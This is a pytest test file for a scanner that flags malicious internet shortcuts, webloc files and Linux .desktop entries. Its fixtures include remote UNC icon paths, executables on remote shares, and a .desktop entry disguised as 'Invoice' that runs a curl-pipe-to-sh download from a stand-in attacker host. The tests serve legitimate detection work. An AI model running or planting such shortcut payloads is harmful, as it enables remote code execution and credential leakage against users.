"""Shortcuts to addresses."""

import plistlib

import pytest

from files.scanners.made import ask, signs, urls
from unhook.files.scanners.internet_shortcut import SCANNER


def test_an_address_and_an_icon_elsewhere() -> None:
    found = ask(
        SCANNER, b"[InternetShortcut]\r\nURL=https://evil.test/in\r\nIconFile=\\\\evil.test\\a\\b.ico\r\n"
    )
    assert [(each.url, each.how) for each in found.references] == [
        ("https://evil.test/in", "shortcut"),
        ("\\\\evil.test\\a\\b.ico", "shortcut icon"),
    ]
    assert signs(found) == {
        "shortcut-remote": "https://evil.test/in",
        "shortcut-share": "\\\\evil.test\\a\\b.ico",
    }


@pytest.mark.parametrize("target", ["file://203.0.113.9/share/run.exe", "\\\\evil.test\\share\\run.js"])
def test_a_program_on_a_share(target: str) -> None:
    found = ask(SCANNER, f"[InternetShortcut]\nURL={target}\n".encode())
    assert signs(found) == {"shortcut-share": target, "shortcut-remote": target}


def test_a_file_of_ones_own() -> None:
    assert not ask(SCANNER, b"[InternetShortcut]\nURL=file:///C:/letter.txt\n").signs


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_webloc(form: plistlib.PlistFormat) -> None:
    data = plistlib.dumps({"URL": "https://evil.test/"}, fmt=form)
    assert urls(ask(SCANNER, data, "a.webloc")) == ["https://evil.test/"]


def test_a_command_of_linux() -> None:
    found = ask(
        SCANNER, b"[Desktop Entry]\nName=Invoice\nExec=sh -c 'curl http://evil.test/a | sh'\n", "a.desktop"
    )
    assert signs(found)["shortcut-command"] == "sh -c 'curl http://evil.test/a | sh'"
